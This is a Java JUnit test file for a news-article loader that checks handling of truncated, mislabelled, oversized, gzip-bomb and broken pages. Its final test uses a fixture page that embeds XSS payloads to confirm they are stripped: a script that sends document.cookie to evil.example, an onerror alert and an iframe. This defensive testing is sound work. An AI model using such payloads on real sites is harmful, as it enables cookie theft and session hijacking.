package io.storyline.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import io.storyline.model.Article;
import io.storyline.model.InputProblem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Pages as they really come: cut off, empty of any article, mis-labelled, enormous, compressed. */
class BadPageInputTest {

    @TempDir
    Path dir;

    private static Extraction read(LoadOptions options, Path... files) {
        return new ArticleLoader(options).extract(java.util.Arrays.stream(files).map(Path::toString).toList());
    }

    private static Extraction read(Path... files) {
        return read(LoadOptions.defaults(), files);
    }

    private Path good() throws IOException {
        return Files.writeString(dir.resolve("good.html"), NewsPages.article("Ferry strike", "Coast Radio",
                NewsPages.FERRY_STORY));
    }

    @Test
    void truncatedHtmlGivesTheTextBeforeTheCutAndNoMarkup() throws IOException {
        String whole = NewsPages.article("Pier to close", "Tidewater", NewsPages.PIER_STORY);
        Path cut = Files.writeString(dir.resolve("cut.html"), whole.substring(0, whole.indexOf("Fishing crews") + 40));
        Article a = read(cut).articles().get(0).article();
        assertThat(a.text()).startsWith("The harbour board voted").contains("Fishing crews who moor there")
                .doesNotContain("<");
    }

    @Test
    void aFrontPageAndANotFoundPageAreOneProblemEachAndTheGoodPageIsKept() throws IOException {
        Path front = Files.writeString(dir.resolve("front.html"), NewsPages.frontPage());
        Path missing = Files.writeString(dir.resolve("missing.html"), "<html><head><title>Page not found - Tidewater"
                + "</title></head><body><h1>Sorry, we could not find that page</h1><p>The page you asked for may have "
                + "moved or been deleted. Try the search box, or go back to the home page.</p></body></html>");
        Extraction read = read(front, missing, good());
        assertThat(read.articles()).singleElement().satisfies(e -> assertThat(e.article().title()).isEqualTo("Ferry strike"));
        assertThat(read.problems()).extracting(InputProblem::toString).containsExactly(
                front + ": is a web page with no article text",
                missing + ": is an error page (\"Page not found - Tidewater\"), not an article");
    }

    @Test
    void aPageInAnotherEncodingThanDeclaredIsReadCorrectly() throws IOException {
        String html = "<html><head><meta charset=\"%s\"><title>Café reopens</title></head><body><article><p>The "
                + "café on the quay reopened on Friday, serving crème brûlée to the first customers in a year.</p>"
                + "</article></body></html>";
        // declared UTF-8, saved as windows-1252
        Path legacy = Files.write(dir.resolve("legacy.html"), html.formatted("utf-8").getBytes(Charset.forName("windows-1252")));
        // declared Latin-1, saved as UTF-8
        Path modern = Files.write(dir.resolve("modern.html"), html.formatted("iso-8859-1").getBytes(StandardCharsets.UTF_8));
        Extraction read = read(legacy, modern);
        assertThat(read.problems()).isEmpty();
        assertThat(read.articles()).hasSize(2).allSatisfy(e -> {
            assertThat(e.article().title()).isEqualTo("Café reopens");
            assertThat(e.article().text()).contains("café").contains("crème brûlée");
        });
    }

    @Test
    void aTwoHundredMegabyteFileIsRefusedWithoutBeingRead() throws IOException {
        Path huge = dir.resolve("huge.html");
        try (RandomAccessFile file = new RandomAccessFile(huge.toFile(), "rw")) {
            file.setLength(200L * 1024 * 1024); // sparse: takes no disk space, and is never read
        }
        Extraction read = read(huge, good());
        assertThat(read.articles()).hasSize(1);
        assertThat(read.problems()).extracting(InputProblem::toString)
                .containsExactly(huge + ": is too large (200.0 MB; the limit is 64.0 MB)");
    }

    @Test
    void gzippedPagesAreReadAndAGzipBombIsCappedAndABrokenGzipIsOneProblem() throws IOException {
        Path page = Files.write(dir.resolve("pier.html.gz"),
                gzip(NewsPages.article("Pier to close", "Tidewater", NewsPages.PIER_STORY).getBytes(StandardCharsets.UTF_8)));
        Path bomb = Files.write(dir.resolve("bomb.html.gz"), gzip(new byte[5_000_000]));
        byte[] half = gzip(NewsPages.article("Ferry", "Coast", NewsPages.FERRY_STORY).getBytes(StandardCharsets.UTF_8));
        Path broken = Files.write(dir.resolve("broken.html.gz"), java.util.Arrays.copyOf(half, half.length / 2));
        Extraction read = read(LoadOptions.defaults().withMaxFileBytes(1_000_000), page, bomb, broken);
        assertThat(read.articles()).singleElement().satisfies(e -> {
            assertThat(e.article().title()).isEqualTo("Pier to close");
            assertThat(e.article().id()).isEqualTo("pier");
        });
        assertThat(read.problems()).extracting(InputProblem::toString).containsExactly(
                bomb + ": is too large (more than 976.6 KB uncompressed, the limit)".replace("976.6 KB", "1,000,000 bytes"),
                broken + ": is not a complete gzip file (Unexpected end of ZLIB input stream)");
    }

    private static byte[] gzip(byte[] bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(bytes);
        }
        return out.toByteArray();
    }

    @Test
    void aHostilePageGivesOnlyText() throws IOException {
        Path hostile = Files.writeString(dir.resolve("hostile.html"), "<html><body><article>"
                + "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
                + "<p>The harbour board voted on Tuesday <img src=x onerror=alert(1)>to close the old pier.</p>"
                + "<iframe src=\"https://evil.example\"></iframe><p>Crews <b onmouseover=\"steal()\">objected</b> "
                + "loudly at the meeting.</p></article></body></html>");
        Article a = read(hostile).articles().get(0).article();
        assertThat(a.text()).doesNotContain("evil").doesNotContain("onerror").doesNotContain("alert(1)").doesNotContain("steal")
                .contains("The harbour board voted on Tuesday to close the old pier.");
        assertThat(List.of(a.text().split("\n"))).noneMatch(l -> l.matches(".*<(script|img|iframe)[ >].*"));
    }
}
